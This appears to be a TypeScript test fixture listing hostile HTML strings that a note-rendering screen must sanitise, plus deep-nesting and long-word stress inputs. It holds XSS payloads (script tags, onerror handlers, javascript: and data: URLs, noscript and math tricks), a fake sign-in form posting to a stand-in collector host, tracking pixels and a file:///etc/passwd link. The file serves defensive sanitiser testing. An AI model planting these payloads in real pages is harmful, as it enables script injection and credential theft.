/**
 * Notes with HTML that a screen must survive: as attackers write it, as broken editors leave it, and as pasted web pages
 * contain it. Where one of them ran, `window.hostile` would be set; the hosts do not exist.
 */
export const hostileTexts: readonly string[] = [
  '<p>See plan</p><script>window.hostile = 1; document.title = "taken over"</script>',
  '<img src="x" onerror="window.hostile = 2"> photo of the crack',
  '<a href="javascript:window.hostile=3">Open the drawing</a>',
  '<a href=" jAvA\tscript&colon;window.hostile=4">Drawing, second try</a>',
  '<svg onload="window.hostile=5"><circle r="9"/></svg><math><mtext><img src=x onerror="window.hostile=5"></mtext></math>',
  '<form action="https://collector.example/sign-in" method="post"><p>Your session has ended. Sign in again:</p><input name="email" placeholder="E-mail"><input name="password" type="password"><button>Sign in</button></form>',
  '<iframe src="https://collector.example/frame" style="position:fixed;inset:0;width:100vw;height:100vh;border:0"></iframe>',
  '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:99999;background:#fff url(https://collector.example/pixel.gif)">The system is closed for maintenance.</div>',
  '<img src="https://collector.example/seen.gif?note=1" width="1" height="1"><p>Thanks for reading.</p>',
  '<meta http-equiv="refresh" content="0;url=https://collector.example/"><base href="https://collector.example/"><link rel="stylesheet" href="https://collector.example/style.css">',
  '<style>* { display: none } body { background: red }</style><p>Invisible?</p>',
  '<object data="https://collector.example/a.swf"></object><embed src="https://collector.example/b"><video src="https://collector.example/c" autoplay onloadstart="window.hostile=6"></video>',
  '<p>Left open <b>bold <i>and <table><tr><td>never closed <div><div><div></p></section></body></html><p>after the end',
  '<!-- <script>window.hostile=7</script> --><![CDATA[ <b>not bold</b> ]]><p title="<img src=x onerror=window.hostile=7>">Comment and title</p>',
  '<noscript><p title="</noscript><img src=x onerror=window.hostile=8>"></noscript><template><script>window.hostile=8</script></template>',
  '<a href="data:text/html;base64,PHNjcmlwdD53aW5kb3cuaG9zdGlsZT05PC9zY3JpcHQ+">report.html</a> <a href=file:///etc/passwd>local copy</a> <a href="//collector.example">short</a>',
  '<p id="root" name="plumbline" onclick="window.hostile=10" onmouseover="window.hostile=10" contenteditable autofocus tabindex="1" onfocus="window.hostile=10">Click me</p>',
  '<p>Price: \u202e00.0001$\u202c, name: p\u0430ypal, zero\u200bwidth, \u0000 and \ufffe</p>',
];

/** A note of many nested elements, which makes careless parsers run out of stack, and one very long word. */
export const heavyTexts: readonly string[] = [
  `${'<div>'.repeat(3000)}deep${'</div>'.repeat(3000)}`,
  `<p>${'Stahlbetonfertigteildeckenplattenauflager'.repeat(400)}</p>`,
];
